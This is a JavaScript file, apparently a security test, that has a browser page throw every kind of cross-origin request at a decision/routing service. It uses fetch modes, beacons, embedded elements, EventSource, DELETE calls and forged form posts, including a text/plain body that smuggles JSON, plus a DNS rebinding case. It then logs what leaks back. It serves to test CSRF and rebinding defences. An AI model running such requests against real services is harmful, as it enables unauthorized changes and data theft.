// SPDX-License-Identifier: Apache-2.0
// Everything that a page can have a browser send to another server, and everything it could learn from the answer.
// attack(service, replay, own) promises the list of what it learned; each entry names the way.
// own: whether the page and the service have one name, as after DNS rebinding.
function attack(service, replay, own) {
  const learned = [];
  const incident = '{"activity":"MAINTIEN","service":"ANNUAIRE","date":"2018-03-12","ticket":"ATTACK-1"}';
  const waits = [];
  const sent = (way, promise) => waits.push(promise.then(
    async answer => {
      if (answer.type !== 'opaque' && answer.type !== 'opaqueredirect') {
        const text = await answer.text();
        // After rebinding a page reads the refusal, and nothing else.
        if (!(own && answer.status === 421)) {
          learned.push(way + ' ' + answer.status + ' ' + text.slice(0, 60));
        }
      }
    }, () => {}));
  const bytes = new TextEncoder().encode(incident);
  const bodies = {untyped: bytes, text: incident, blob: new Blob([incident]),
    form: new URLSearchParams({activity: 'MAINTIEN', service: 'ANNUAIRE'}), json: new Blob([incident], {type: 'application/json'})};
  const posts = ['/v1/decisions', '/v1/evaluations', '/v1/decisions/batch', '/v1/ruleset/reload', '/v1/replays',
    '/aiguiller', '/journal/rejeux', '/journal/rejeux/' + replay + '/arret'];
  for (const path of posts) {
    for (const [name, body] of Object.entries(bodies)) {
      for (const mode of own ? ['cors'] : ['no-cors', 'cors']) {
        sent('fetch ' + mode + ' ' + name + ' ' + path,
          fetch(service + path, {method: 'POST', mode, body, credentials: 'include', redirect: 'manual'}));
      }
      navigator.sendBeacon(service + path, body);
    }
    sent('fetch keepalive ' + path, fetch(service + path, {method: 'POST', mode: own ? 'cors' : 'no-cors', body: bytes, keepalive: true}));
  }
  sent('delete', fetch(service + '/v1/replays/' + replay, {method: 'DELETE'}));
  const reads = ['/v1/decisions', '/v1/log/checkpoint', '/v1/ruleset', '/journal', '/bilan.csv', '/metrics', '/health/ready', '/openapi',
    '/v1/replays/' + replay];
  for (const path of reads) {
    sent('read cors ' + path, fetch(service + path));
    if (!own) { sent('read no-cors ' + path, fetch(service + path, {mode: 'no-cors'})); }
    for (const [tag, link] of [['img', 'src'], ['script', 'src'], ['link', 'href'], ['video', 'src'], ['embed', 'src'], ['object', 'data'], ['iframe', 'src']]) {
      waits.push(new Promise(done => {
        const element = document.createElement(tag);
        if (tag === 'link') { element.rel = 'stylesheet'; }
        const seen = () => {
          let inner = '';
          try { inner = element.contentDocument ? element.contentDocument.body.innerText : ''; } catch (e) { inner = ''; }
          const refused = inner.includes('urn:aiguillage:problem:misdirected');
          if (tag === 'img' || tag === 'script' || tag === 'link' || tag === 'video' || (inner !== '' && !refused)) {
            learned.push(tag + ' ' + path + ' ' + inner.slice(0, 60));
          }
          done();
        };
        element.onload = seen;
        element.onloadeddata = seen;
        element.onerror = done;
        element[link] = service + path;
        document.body.append(element);
        setTimeout(done, 3000);
      }));
    }
  }
  waits.push(new Promise(done => {
    const events = new EventSource(service + '/v1/replays/' + replay + '/events');
    events.onmessage = event => { learned.push('events ' + event.data.slice(0, 60)); done(); };
    events.onerror = () => { events.close(); done(); };
  }));
  for (const path of posts) {
    for (const type of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      waits.push(new Promise(done => {
        const frame = document.createElement('iframe');
        frame.name = 'f' + Math.random();
        document.body.append(frame);
        const form = document.createElement('form');
        Object.assign(form, {method: 'post', action: service + path, enctype: type, target: frame.name});
        // As text/plain this is JSON: {"activity":"MAINTIEN",…,"x":"="}
        form.append(Object.assign(document.createElement('input'),
          {name: type === 'text/plain' ? incident.slice(0, -1) + ',"x":"' : 'activity', value: type === 'text/plain' ? '"}' : 'MAINTIEN'}));
        form.append(Object.assign(document.createElement('input'), {name: 'choix', value: 'Annuaire'}));
        document.body.append(form);
        frame.onload = done;
        form.submit();
        setTimeout(done, 3000);
      }));
    }
  }
  return Promise.all(waits).then(() => learned);
}
